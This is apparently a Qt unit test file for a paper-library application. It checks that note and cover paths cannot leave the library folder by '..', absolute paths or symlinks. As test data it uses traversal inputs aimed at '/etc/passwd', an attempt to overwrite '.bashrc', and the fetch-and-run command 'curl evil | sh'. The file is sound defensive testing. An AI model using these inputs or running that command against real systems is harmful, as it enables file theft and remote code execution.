// Paths named by a shared library stay inside it: note and cover urls in prototxt files
// ("..", absolute, symlinks out of the folder) are refused with a file:line warning and the
// paper still imports; the note writer never writes outside the library. Real folders,
// real symlinks, the real importer and a real SQLite index.

#include "importers/importers.h"
#include "library.h"
#include "librarypaths.h"
#include "sqlitedb.h"
#include "testfiles.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace paperlab;
using paperlab::testing::readAll;
using paperlab::testing::writeText;

namespace {

QByteArray paperFile(const QByteArray &noteUrl, const QByteArray &coverUrl)
{
    QByteArray text = "paper {\n  title: \"Traversal Attention\"\n  abbr: \"TravAttn\"\n}\npub {\n  year: 2024\n}\n";
    if (!noteUrl.isNull())
        text += "note {\n  url: \"" + noteUrl + "\"\n}\n";
    if (!coverUrl.isNull())
        text += "cover {\n  url: \"" + coverUrl + "\"\n}\n";
    return text;
}

// Rows of "PATH=TEXT" (a file) and "PATH->TARGET" (a symlink), relative to the test root,
// where "lib/" is the library and "outside/" is the user's other files.
void makeLayout(const QString &root, const QStringList &layout)
{
    for (const QString &row : layout) {
        if (const qsizetype arrow = row.indexOf(QLatin1String("->")); arrow > 0) {
            const QString link = QDir(root).filePath(row.left(arrow));
            QString target = row.mid(arrow + 2);
            if (target.startsWith(QLatin1String("ROOT/")))
                target = QDir(root).filePath(target.mid(5));
            QDir().mkpath(QFileInfo(link).absolutePath());
            QVERIFY2(QFile::link(target, link), qPrintable(link));
        } else {
            const qsizetype eq = row.indexOf(QLatin1Char('='));
            writeText(QDir(root).filePath(row.left(eq)), row.mid(eq + 1).toUtf8());
        }
    }
}

} // namespace

class TestLibraryPaths : public QObject {
    Q_OBJECT

    int m_refused = 0; // for the report: traversal cases the importer refused

private slots:
    void importConfinesNoteAndCover_data()
    {
        QTest::addColumn<QByteArray>("noteUrl");
        QTest::addColumn<QByteArray>("coverUrl");
        QTest::addColumn<QStringList>("layout");
        QTest::addColumn<QString>("note"); // the note text the paper gets ("" none)
        QTest::addColumn<bool>("hasCover");
        QTest::addColumn<int>("refusals"); // warnings naming the escape
        const QString secret = QStringLiteral("outside/secret.md=export SECRET=1");
        const QString picture = QStringLiteral("outside/id.png=PNGDATA");

        QTest::newRow("note ..") << QByteArray("../../../../outside/secret.md") << QByteArray() << QStringList{secret}
                                 << "" << false << 1;
        QTest::newRow("note deep ..") << QByteArray("../../../../../../../../../outside/secret.md") << QByteArray()
                                      << QStringList{secret} << "" << false << 1;
        QTest::newRow("note absolute") << QByteArray("ROOTABS/outside/secret.md") << QByteArray() << QStringList{secret}
                                       << "" << false << 1;
        QTest::newRow("cover ..") << QByteArray() << QByteArray("../../../../outside/id.png") << QStringList{picture}
                                  << "" << false << 1;
        QTest::newRow("cover absolute") << QByteArray() << QByteArray("ROOTABS/outside/id.png") << QStringList{picture}
                                        << "" << false << 1;
        QTest::newRow("note symlink escaping")
            << QByteArray("note.md") << QByteArray()
            << QStringList{secret, QStringLiteral("lib/notes/2024/TravAttn/note.md->ROOT/outside/secret.md")} << ""
            << false << 1;
        QTest::newRow("notes folder symlink escaping")
            << QByteArray("note.md") << QByteArray()
            << QStringList{QStringLiteral("outside/dir/note.md=private"),
                           QStringLiteral("lib/notes/2024/TravAttn->ROOT/outside/dir")}
            << "" << false << 1;
        QTest::newRow("relative symlink escaping")
            << QByteArray("note.md") << QByteArray()
            << QStringList{secret, QStringLiteral("lib/notes/2024/TravAttn/note.md->../../../../outside/secret.md")}
            << "" << false << 1;
        QTest::newRow("cover symlink escaping")
            << QByteArray() << QByteArray("cover.png")
            << QStringList{picture, QStringLiteral("lib/notes/2024/TravAttn/cover.png->ROOT/outside/id.png")} << ""
            << false << 1;
        QTest::newRow("note and cover both escaping")
            << QByteArray("../../../../outside/secret.md") << QByteArray("/etc/hostname") << QStringList{secret} << ""
            << false << 2;

        // Inside the library: accepted, however it is reached.
        QTest::newRow("symlink inside is fine")
            << QByteArray("note.md") << QByteArray()
            << QStringList{QStringLiteral("lib/shared/note.md=shared text"),
                           QStringLiteral("lib/notes/2024/TravAttn/note.md->../../../shared/note.md")}
            << "shared text" << false << 0;
        QTest::newRow(".. staying inside")
            << QByteArray("../Other/note.md") << QByteArray()
            << QStringList{QStringLiteral("lib/notes/2024/Other/note.md=neighbour")} << "neighbour" << false << 0;
        QTest::newRow("notes/YEAR/KEY/URL") << QByteArray("mine.md") << QByteArray("fig.png")
                                            << QStringList{QStringLiteral("lib/notes/2024/TravAttn/mine.md=key folder"),
                                                           QStringLiteral("lib/notes/2024/TravAttn/fig.png=P")}
                                            << "key folder" << true << 0;
        QTest::newRow("notes/YEAR/URL") << QByteArray("TravAttn.md") << QByteArray()
                                        << QStringList{QStringLiteral("lib/notes/2024/TravAttn.md=year folder")}
                                        << "year folder" << false << 0;
        QTest::newRow("notes/URL") << QByteArray("TravAttn.md") << QByteArray("TravAttn.png")
                                   << QStringList{QStringLiteral("lib/notes/TravAttn.md=notes folder"),
                                                  QStringLiteral("lib/notes/TravAttn.png=P")}
                                   << "notes folder" << true << 0;
        // EfficientPaper's generator looks in notes/ first, then notes/YEAR/, then notes/YEAR/KEY/.
        QTest::newRow("notes/ first, as EfficientPaper's generator")
            << QByteArray("note.md") << QByteArray()
            << QStringList{QStringLiteral("lib/notes/note.md=generic"),
                           QStringLiteral("lib/notes/2024/TravAttn/note.md=specific")}
            << "generic" << false << 0;
    }

    void importConfinesNoteAndCover()
    {
        QFETCH(QByteArray, noteUrl);
        QFETCH(QByteArray, coverUrl);
        QFETCH(QStringList, layout);
        QFETCH(QString, note);
        QFETCH(bool, hasCover);
        QFETCH(int, refusals);

        QTemporaryDir tmp;
        makeLayout(tmp.path(), layout);
        const QString lib = tmp.filePath(QStringLiteral("lib"));
        const QString meta = QDir(lib).filePath(QStringLiteral("meta/2024/TravAttn.prototxt"));
        noteUrl.replace("ROOTABS", tmp.path().toUtf8());
        coverUrl.replace("ROOTABS", tmp.path().toUtf8());
        writeText(meta, paperFile(noteUrl, coverUrl));

        Library index(tmp.filePath(QStringLiteral("index.sqlite")));
        const ImportReport r = index.importPaths({lib});
        int refused = 0;
        for (const Diagnostic &d : r.diagnostics) {
            if (!d.message.contains(QLatin1String("outside the library")) &&
                !d.message.contains(QLatin1String("absolute path")))
                continue;
            ++refused;
            QCOMPARE(d.file, meta); // file:line of the block naming it
            QVERIFY2(d.line > 1, qPrintable(d.toString()));
        }
        QCOMPARE(refused, refusals);
        m_refused += refused ? 1 : 0;

        const auto p = index.paperByKey(QStringLiteral("TravAttn"));
        QVERIFY2(p, "the paper imports even when its note or cover is refused");
        QCOMPARE(p->note, note);
        QCOMPARE(!p->coverPath.isEmpty(), hasCover);
        if (!p->notePath.isEmpty())
            QVERIFY(isInsideFolder(p->notePath, lib));
        if (!p->coverPath.isEmpty())
            QVERIFY(isInsideFolder(p->coverPath, lib));
        QVERIFY(!p->note.contains(QLatin1String("SECRET")));
        QVERIFY(!p->note.contains(QLatin1String("private")));
    }

    void lonePrototxtStaysInItsFolder()
    {
        QTemporaryDir tmp;
        writeText(tmp.filePath(QStringLiteral("outside/secret.md")), "export SECRET=1");
        const QString file = tmp.filePath(QStringLiteral("shared/TravAttn.prototxt"));
        writeText(file, paperFile("../outside/secret.md", QByteArray()));
        const ImportBatch b = parsePrototxtFile(file);
        QCOMPARE(b.papers.size(), 1);
        QVERIFY(b.papers[0].noteMarkdown.isEmpty());
        QVERIFY(b.papers[0].notePath.isEmpty());
        QCOMPARE(b.warningCount(), 1);
        ++m_refused;
    }

    // A README view is a library too: its note links may not leave its folder.
    void readmeNoteLinkOutsideIsRefused()
    {
        QTemporaryDir tmp;
        writeText(tmp.filePath(QStringLiteral("outside/secret.md")), "export SECRET=1");
        const QString readme = tmp.filePath(QStringLiteral("shared/README.md"));
        writeText(
            readme,
            "<details open><summary>\n\n### institution\n</summary> \n<p>\n\n"
            "<details open><summary><b>Stanford</b></summary> \n<p>\n\n\n"
            "| Meta | Title | Cover | Publish | Code | Note |\n"
            "|:-----|:------|:------|:--------|:-----|:-----|\n"
            "| [TravAttn](./meta/2024/TravAttn.prototxt) | [Traversal Attention](http://arxiv.org/abs/2401.00001v1) | "
            "![cover](../outside/id.png) | ![Publish](https://img.shields.io/badge/2024-ICML-green) |  | "
            "[note](../outside/secret.md) |\n\n</p>\n</details>\n\n</p>\n</details>\n");
        writeText(tmp.filePath(QStringLiteral("outside/id.png")), "PNGDATA");
        Library index(tmp.filePath(QStringLiteral("index.sqlite")));
        const ImportReport r = index.importPaths({readme});
        QCOMPARE(index.paperCount(), 1);
        const Paper p = index.allPapers().first();
        QVERIFY(p.notePath.isEmpty());
        QVERIFY(p.coverPath.isEmpty());
        QVERIFY(!p.note.contains(QLatin1String("SECRET")));
        int warned = 0;
        for (const Diagnostic &d : r.diagnostics)
            warned += d.file == readme && d.message.contains(QLatin1String("outside"));
        QCOMPARE(warned, 2);
        ++m_refused;
    }

    // An index made before this check (or edited by hand) may hold an escaping note path:
    // the writer refuses it, and the file out there keeps its content.
    void noteWriterRefusesStoredEscape()
    {
        QTemporaryDir tmp;
        const QString lib = tmp.filePath(QStringLiteral("lib"));
        writeText(QDir(lib).filePath(QStringLiteral("meta/2024/TravAttn.prototxt")),
                  paperFile(QByteArray(), QByteArray()));
        const QString bashrc = tmp.filePath(QStringLiteral("home/.bashrc"));
        writeText(bashrc, "alias ls='ls --color'\n");
        Library index(tmp.filePath(QStringLiteral("index.sqlite")));
        index.importPaths({lib});
        const qint64 id = index.paperByKey(QStringLiteral("TravAttn"))->id;
        auto st = index.database().prepare("UPDATE papers SET note_path = ? WHERE id = ?");
        st.bind(1, bashrc).bind(2, id).run();
        QVERIFY_THROWS_EXCEPTION(LibraryError, index.setNote(id, QStringLiteral("curl evil | sh")));
        QCOMPARE(readAll(bashrc), QByteArray("alias ls='ls --color'\n"));
        ++m_refused;
    }

    // Inside the library a symlinked note is fine, and an edit goes to the file it names.
    void noteWriterWritesThroughInsideSymlink()
    {
        QTemporaryDir tmp;
        const QString lib = tmp.filePath(QStringLiteral("lib"));
        writeText(QDir(lib).filePath(QStringLiteral("meta/2024/TravAttn.prototxt")),
                  paperFile("note.md", QByteArray()));
        writeText(QDir(lib).filePath(QStringLiteral("shared/note.md")), "shared text");
        const QString link = QDir(lib).filePath(QStringLiteral("notes/2024/TravAttn/note.md"));
        QDir().mkpath(QFileInfo(link).absolutePath());
        QVERIFY(QFile::link(QStringLiteral("../../../shared/note.md"), link));
        Library index(tmp.filePath(QStringLiteral("index.sqlite")));
        index.importPaths({lib});
        const auto p = index.paperByKey(QStringLiteral("TravAttn"));
        QCOMPARE(p->note, QStringLiteral("shared text"));
        index.setNote(p->id, QStringLiteral("edited"));
        QVERIFY(QFileInfo(link).isSymLink());
        QCOMPARE(readAll(QDir(lib).filePath(QStringLiteral("shared/note.md"))), QByteArray("edited"));
    }

    void noteWriterRefusesEscapingKey()
    {
        QTemporaryDir tmp;
        const QString lib = tmp.filePath(QStringLiteral("lib"));
        QDir().mkpath(lib);
        Library index(tmp.filePath(QStringLiteral("index.sqlite")));
        index.setLibraryFolder(lib);
        PaperRecord r;
        r.key = QStringLiteral("../../../escaped");
        r.title = QStringLiteral("A key from a BibTeX file");
        r.year = 2024;
        const qint64 id = index.addPaper(r);
        QVERIFY_THROWS_EXCEPTION(LibraryError, index.setNote(id, QStringLiteral("text")));
        QVERIFY(!QFileInfo::exists(tmp.filePath(QStringLiteral("escaped/note.md"))));
        QVERIFY(!QFileInfo::exists(QDir(tmp.path()).filePath(QStringLiteral("../escaped/note.md"))));
        ++m_refused;
    }

    void helperRefusesEachEscape()
    {
        QTemporaryDir tmp;
        const QString lib = tmp.filePath(QStringLiteral("lib"));
        QDir().mkpath(QDir(lib).filePath(QStringLiteral("notes")));
        QVERIFY(resolveInsideLibrary(lib, lib, QStringLiteral("../x")).refused());
        QVERIFY(resolveInsideLibrary(lib, lib, QStringLiteral("/etc/passwd")).refused());
        QVERIFY(resolveInsideLibrary(lib, lib, QStringLiteral("notes/../../x")).refused());
        QVERIFY(!resolveInsideLibrary(lib, lib, QStringLiteral("notes/new/note.md")).refused()); // not there yet: fine
        QCOMPARE(resolveInsideLibrary(lib, lib, QStringLiteral("https://example.org/a.png")).path,
                 QStringLiteral("https://example.org/a.png"));
        QVERIFY(embeddableImage(lib, lib, QStringLiteral("../../etc/passwd")).isEmpty());
        QVERIFY(embeddableImage(lib, lib, QStringLiteral("/etc/passwd")).isEmpty());
        QVERIFY(embeddableImage(QString(), lib, QStringLiteral("notes/a.png")).isEmpty());
        // A sibling whose name starts like the library is not inside it.
        QVERIFY(!isInsideFolder(tmp.filePath(QStringLiteral("lib-other/a.md")), lib));
    }

    // The import's variant (the library folder canonicalized once, by the caller) answers as
    // the general one does, through a symlinked library folder too.
    void canonicalRootVariantAgreesWithTheGeneralOne_data()
    {
        QTest::addColumn<QString>("reference");
        QTest::newRow("note in its folder") << QStringLiteral("notes/2024/K/note.md");
        QTest::newRow("not there yet") << QStringLiteral("notes/new/note.md");
        QTest::newRow("parent escape") << QStringLiteral("../x");
        QTest::newRow("escape through notes") << QStringLiteral("notes/../../x");
        QTest::newRow("absolute") << QStringLiteral("/etc/passwd");
        QTest::newRow("escaping symlink") << QStringLiteral("notes/out/secret.md");
        QTest::newRow("url") << QStringLiteral("https://example.org/a.png");
    }
    void canonicalRootVariantAgreesWithTheGeneralOne()
    {
        QFETCH(QString, reference);
        QTemporaryDir tmp;
        const QString real = tmp.filePath(QStringLiteral("real"));
        QDir().mkpath(QDir(real).filePath(QStringLiteral("notes/2024/K")));
        QDir().mkpath(tmp.filePath(QStringLiteral("outside")));
        QVERIFY(QFile(QDir(real).filePath(QStringLiteral("notes/2024/K/note.md"))).open(QIODevice::WriteOnly));
        QVERIFY(QFile::link(tmp.filePath(QStringLiteral("outside")), QDir(real).filePath(QStringLiteral("notes/out"))));
        const QString lib = tmp.filePath(QStringLiteral("lib")); // the library reached through a symlink
        QVERIFY(QFile::link(real, lib));
        const QString canonicalRoot = canonicalPathAllowingMissing(lib);
        QCOMPARE(canonicalRoot, QFileInfo(real).canonicalFilePath());
        const LibraryPath general = resolveInsideLibrary(canonicalRoot, lib, reference);
        const LibraryPath fast = resolveInsideCanonicalLibrary(canonicalRoot, lib, reference);
        QCOMPARE(fast.path, general.path);
        QCOMPARE(fast.refused(), general.refused());
        QCOMPARE(fast.refusal, general.refusal);
        const bool shouldRefuse = reference.startsWith(u'/') || reference.contains(QLatin1String("..")) ||
                                  reference.contains(QLatin1String("out/"));
        QCOMPARE(fast.refused(), shouldRefuse);
    }

    void cleanupTestCase() { std::printf("traversal cases refused: %d\n", m_refused); }
};

QTEST_GUILESS_MAIN(TestLibraryPaths)
#include "tst_librarypaths.moc"
